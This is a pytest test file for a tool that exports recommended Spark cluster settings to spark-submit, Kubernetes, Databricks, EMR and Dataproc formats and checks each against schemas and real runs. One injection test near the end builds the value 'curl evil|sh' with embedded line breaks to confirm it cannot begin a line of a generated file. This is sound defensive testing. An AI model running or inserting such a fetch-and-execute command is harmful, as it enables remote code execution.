"""Exports, read by what reads them."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import shlex
import subprocess
import sys
from pathlib import Path

import jsonschema
import pyspark
import pytest
import yaml
from kubeflow_spark_api.models import SparkV1beta2SparkApplication

from perfmodel.recommendation.exports import FORMATS, PLACEHOLDERS, PROVENANCE, Order, provenance, spark_properties
from perfmodel.recommendation.promises import promises
from store import open_store
from store.eventlogs.run import Supplied
from tests.standalone import clean_environment

SPARK_SUBMIT = Path(pyspark.__file__).parent / "bin" / "spark-submit"
ORDER = Order(
    application="resnet50",
    cluster="paper's \\ cluster #1",  # names may hold anything that prints
    num_executors=3,
    executor_cores=8,
    executor_memory_gb=7.5,
    heap_gb=7.5,
    overhead_gb=1.25,
    nodes=2,
    node_type="",
    model="resnet50@paper-2020/5 v2",
    data_sha256="ab" * 32,
    data_origin="1,260 reconstructed runs",
    sampling_rate_pct=100.0,
    predicted_s=8000.04,
    predicted_low_s=7900.0,
    predicted_high_s=8100.0,
    level=0.9,
    cost=3.456,
    currency="USD",
    made_on="2026-11-21",
    images_per_partition=50,
)


# Waits for its executors, as a job would that is to be timed.
JOB = """
import time
from pyspark.sql import SparkSession
context = SparkSession.builder.getOrCreate().sparkContext
wanted = int(context.getConf().get("spark.executor.instances")) + 1 if "cluster" in context.master else 1
while context._jsc.sc().getExecutorMemoryStatus().size() < wanted:
    time.sleep(0.1)
context.parallelize(range(4), 4).count()
context.stop()
"""


def render(name):
    return FORMATS[name].render(ORDER)


def run_application(folder, make_command, master="local[1]"):
    """Start a real application by the command made from our own arguments; return its event log."""
    (folder / "logs").mkdir()
    program = folder / "job.py"
    program.write_text(JOB, encoding="utf-8")
    own = {
        "spark.ui.enabled": "false", "spark.eventLog.enabled": "true", "spark.eventLog.dir": (folder / "logs").as_uri(),
        "spark.eventLog.compress": "false", "spark.eventLog.rolling.enabled": "false",
        "spark.driver.host": "127.0.0.1",
    }  # fmt: skip
    conf = [part for name, value in own.items() for part in ("--conf", f"{name}={value}")]
    clean = clean_environment() | {"PYSPARK_PYTHON": sys.executable}
    clean["PATH"] = f"{SPARK_SUBMIT.parent}{os.pathsep}{clean['PATH']}"
    command = make_command(["--master", master, *conf], str(program))
    done = subprocess.run(command, env=clean, cwd=folder, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr
    [log] = (folder / "logs").iterdir()
    return log


def properties_of(log):
    events = [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
    [environment] = [event for event in events if event["Event"] == "SparkListenerEnvironmentUpdate"]
    return environment["Spark Properties"]


@pytest.mark.thorough
def test_spark_reads_the_defaults_file(tmp_path):
    file = tmp_path / "spark-defaults.conf"
    file.write_text(render("spark-defaults"), encoding="utf-8")

    def command(own, program):
        return ["spark-submit", "--properties-file", str(file), *own, program]

    assert spark_properties(ORDER).items() <= properties_of(run_application(tmp_path, command)).items()


@pytest.mark.thorough
def test_the_submit_command_gets_the_executors_and_its_log_comes_back_with_the_prediction(tmp_path):
    order = dataclasses.replace(
        ORDER, num_executors=2, executor_cores=1, executor_memory_gb=0.5, heap_gb=0.5, overhead_gb=0.25
    )
    script = tmp_path / "submit.sh"

    def command(own, program):
        text = FORMATS["spark-submit"].render(order).replace("--master MASTER_URL", shlex.join(own))
        script.write_text(text.replace("JOB.py\n", f"{shlex.quote(program)}\n"), encoding="utf-8")
        return ["sh", str(script)]

    log = run_application(tmp_path, command, "local-cluster[2,1,1024]")  # executors in JVMs of their own
    assert spark_properties(order).items() <= properties_of(log).items()
    assert script.read_text(encoding="utf-8").count("# Put ") == 2

    store = open_store(tmp_path / "home")
    [imported] = store.eventlogs.add(log, Supplied())
    assert imported.added == 1
    runs = store.runs.load()
    [run] = runs.to_dict("records")
    assert (run["application"], run["cluster"]) == (order.application, order.cluster)
    assert (run["num_executors"], run["executor_cores"], run["executor_memory_gb"]) == (2, 1, 0.5)
    [kept] = promises(runs).to_dict("records")
    assert (kept["predicted_s"], kept["model"]) == (8000.0, order.model)
    assert (kept["otherwise"], run["images_per_partition"]) == ("", 50)
    assert 0 < kept["actual_s"] == run["completion_time_s"]


# What the operator's resource definition allows beside the types that its package carries: kubeflow/spark-operator,
# config/crd/bases/sparkoperator.k8s.io_sparkapplications.yaml, release 2.4.
OPERATOR_CHOICES = {
    "type": {"Java", "Python", "Scala", "R"},
    "mode": {"cluster", "client", "in-cluster-client"},
    "pythonVersion": {"2", "3"},
}


def test_the_operators_own_classes_read_the_spark_application():
    resource = yaml.safe_load(render("kubernetes"))
    assert SparkV1beta2SparkApplication.from_dict(resource).to_dict() == resource, "a field that the operator drops"
    for field, choices in OPERATOR_CHOICES.items():
        assert resource["spec"][field] in choices


def test_the_spark_application_says_the_same_in_the_operators_fields():
    resource = yaml.safe_load(render("kubernetes"))
    assert (resource["apiVersion"], resource["kind"]) == ("sparkoperator.k8s.io/v1beta2", "SparkApplication")
    spec = resource["spec"]
    assert spec["executor"] == {"cores": 8, "instances": 3, "memory": "7680m", "memoryOverhead": "1280m"}
    assert not {"spark.executor.instances", "spark.executor.cores"} & spec["sparkConf"].keys()
    assert resource["metadata"]["annotations"]["sparkcast/model"] == ORDER.model


TEXTS = {"type": "object", "additionalProperties": {"type": "string"}}
DOCUMENTED = {
    # docs.databricks.com/api/workspace/clusters/create: the fields used here, by the type that it gives them; at most
    # 45 tags, whose keys have up to 127 characters and whose values up to 255 (of those that AWS takes).
    "databricks": {
        "type": "object",
        "properties": {
            "cluster_name": {"type": "string", "maxLength": 100},
            "spark_version": {"type": "string"},
            "node_type_id": {"type": "string"},
            "num_workers": {"type": "integer", "minimum": 0},
            "spark_conf": TEXTS,
            "custom_tags": {
                "type": "object",
                "maxProperties": 45,
                "propertyNames": {"pattern": r"^[\w +\-=.:/@]{1,127}$"},
                "additionalProperties": {"type": "string", "pattern": r"^[\w +\-=.:/@]{0,255}$"},
            },
        },
        "required": ["spark_version", "node_type_id", "num_workers"],
        "additionalProperties": False,
    },
    # docs.aws.amazon.com/emr/latest/APIReference/API_Configuration.html
    "emr": {
        "type": "array",
        "items": {"$ref": "#/$defs/configuration"},
        "$defs": {
            "configuration": {
                "type": "object",
                "properties": {
                    "Classification": {"type": "string"},
                    "Properties": TEXTS,
                    "Configurations": {"type": "array", "items": {"$ref": "#/$defs/configuration"}},
                },
                "required": ["Classification"],
                "additionalProperties": False,
            }
        },
    },
    # cloud.google.com/sdk/gcloud/reference/topic/flags-file: flags and their values, a map for a flag that takes one;
    # cloud.google.com/dataproc/docs/concepts/cluster-properties: "spark:" is the prefix of spark-defaults.conf.
    "dataproc": {
        "type": "object",
        "properties": {
            "--region": {"type": "string"},
            "--num-workers": {"type": "integer"},
            "--worker-machine-type": {"type": "string"},
            "--properties": TEXTS | {"propertyNames": {"pattern": r"^spark:spark\."}},
        },
        "required": ["--region"],
        "additionalProperties": False,
    },
}


@pytest.mark.parametrize("name", DOCUMENTED)
def test_the_file_has_the_documented_shape(name):
    jsonschema.validate(yaml.safe_load(render(name)), DOCUMENTED[name])  # JSON is YAML


def test_databricks_gets_a_worker_an_executor_of_a_type_that_holds_one():
    cluster = json.loads(render("databricks"))
    assert cluster["spark_conf"]["spark.executor.cores"] == "8"
    assert cluster["custom_tags"]["sparkcast-dataSha256"] == ORDER.data_sha256
    for nodes, node_type, expected in ((2, "m5d.4xlarge", "NODE_TYPE"), (3, "m5d.4xlarge", "m5d.4xlarge"),
                                       (3, "", "NODE_TYPE"), (0, "", "NODE_TYPE")):  # fmt: skip
        order = dataclasses.replace(ORDER, nodes=nodes, node_type=node_type)
        cluster = json.loads(FORMATS["databricks"].render(order))
        assert (cluster["num_workers"], cluster["node_type_id"]) == (3, expected)
        assert ("in place of NODE_TYPE" in " ".join(FORMATS["databricks"].beside(order))) == (expected == "NODE_TYPE")


def test_emr_gets_a_list_of_classifications():
    classifications = {one["Classification"]: one["Properties"] for one in json.loads(render("emr"))}
    assert classifications["spark-defaults"] == spark_properties(ORDER)
    assert classifications["spark"] == {"maximizeResourceAllocation": "false"}


def test_dataproc_gets_a_file_of_flags():
    flags = yaml.safe_load(render("dataproc"))
    assert flags["--properties"]["spark:spark.executor.memory"] == "7680m"
    assert len(flags["--properties"]) == len(spark_properties(ORDER))
    assert (flags["--region"], flags["--num-workers"]) == ("REGION", 2)
    assert "--worker-machine-type" not in flags
    known = yaml.safe_load(FORMATS["dataproc"].render(dataclasses.replace(ORDER, node_type="n2-standard-8")))
    assert known["--worker-machine-type"] == "n2-standard-8"


def test_plain_json_holds_the_numbers():
    content = json.loads(render("json"))
    assert content["configuration"]["executor_memory_gb"] == 7.5
    assert content["configuration"]["node_type"] is None
    assert content["provenance"] == provenance(ORDER)


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_says_where_it_comes_from(name):
    text = render(name)
    for value in ("resnet50@paper-2020/5 v2", ORDER.data_sha256, "8000.0", "2026-11-21", "reconstructed"):
        assert value in text


def test_provenance_reaches_the_properties_that_spark_logs():
    properties = spark_properties(ORDER)
    assert properties[f"{PROVENANCE}predictedSeconds"] == "8000.0"
    assert properties[f"{PROVENANCE}dataOrigin"] == "1,260 reconstructed runs"
    size = ("numExecutors", "executorCores", "executorMemoryGb", "memoryRegime", "imagesPerPartition", "nodes")
    assert [properties[PROVENANCE + name] for name in size] == ["3", "8", "7.5", "free", "50", "2"]
    unknown = dataclasses.replace(ORDER, images_per_partition=None, nodes=0)
    assert not {"imagesPerPartition", "nodes", "nodeType"} & provenance(unknown).keys()


def test_the_heap_is_asked_for_and_the_memory_said():
    order = dataclasses.replace(ORDER, executor_memory_gb=2.0, heap_gb=0.5, overhead_gb=1.5, memory_regime="process")
    properties = spark_properties(order)
    assert (properties["spark.executor.memory"], properties["spark.executor.memoryOverhead"]) == ("512m", "1536m")
    assert properties[f"{PROVENANCE}executorMemoryGb"] == "2"
    executor = yaml.safe_load(FORMATS["kubernetes"].render(order))["spec"]["executor"]
    assert (executor["memory"], executor["memoryOverhead"]) == ("512m", "1536m")


@pytest.mark.parametrize("name", FORMATS)
def test_each_placeholder_is_said(name):
    text = render(name)
    said = text + " ".join(FORMATS[name].beside(ORDER))
    used = [one for one in PLACEHOLDERS if re.search(rf"\b{re.escape(one)}\b", text)]
    assert [one for one in used if f"in place of {one}." not in said] == []


@pytest.mark.parametrize("name", FORMATS)
def test_a_line_break_in_what_an_upload_says_begins_no_line_of_a_file(name):
    bad = "synthetic-x\ncurl evil|sh #\u2028curl evil|sh #\rcurl evil|sh #"
    order = dataclasses.replace(ORDER, data_origin=f"1 uploaded run ({bad})", currency=bad, node_type=bad)
    text = FORMATS[name].render(order)
    assert "evil" in text
    assert not [line for line in text.splitlines() if line.lstrip().startswith("curl")]


def test_what_is_to_be_replaced_is_said_where_the_format_has_no_comments():
    [version, machine, cost] = FORMATS["databricks"].beside(ORDER)
    assert version == "Put a Databricks Runtime version in place of SPARK_VERSION."
    assert machine.startswith("Put an instance type in place of NODE_TYPE. Databricks starts one executor a worker")
    assert "8 cores and 8.8 GiB" in machine
    assert cost == "The predicted cost is that of 2 machines that hold several executors each."
    assert FORMATS["databricks"].beside(dataclasses.replace(ORDER, nodes=3, node_type="m5d.2xlarge")) == [version]
    assert not any(FORMATS[name].beside(ORDER) for name in FORMATS if name != "databricks")


def test_a_small_cost_is_not_said_to_be_nothing():
    assert provenance(dataclasses.replace(ORDER, cost=0.00123))["predictedCost"] == "0.00123 USD"
